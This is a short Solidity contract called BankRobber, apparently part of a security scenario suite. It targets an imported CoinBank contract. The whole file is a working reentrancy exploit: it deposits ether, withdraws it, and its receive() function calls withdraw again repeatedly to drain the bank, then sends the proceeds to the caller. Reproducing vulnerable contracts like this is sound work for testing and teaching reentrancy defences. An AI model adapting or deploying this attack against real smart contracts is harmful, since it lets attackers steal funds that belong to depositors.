// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {CoinBank} from "../scenarios/CoinBank.sol";

/// @title Takes out of the bank again while the bank still pays.
contract BankRobber {
    CoinBank private immutable bank;
    uint256 private left;

    constructor(CoinBank bank_) {
        bank = bank_;
    }

    function rob(uint256 times) external payable {
        left = times;
        bank.deposit{value: msg.value}();
        bank.withdraw(msg.value);
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {
        if (--left > 0) bank.withdraw(msg.value);
    }
}
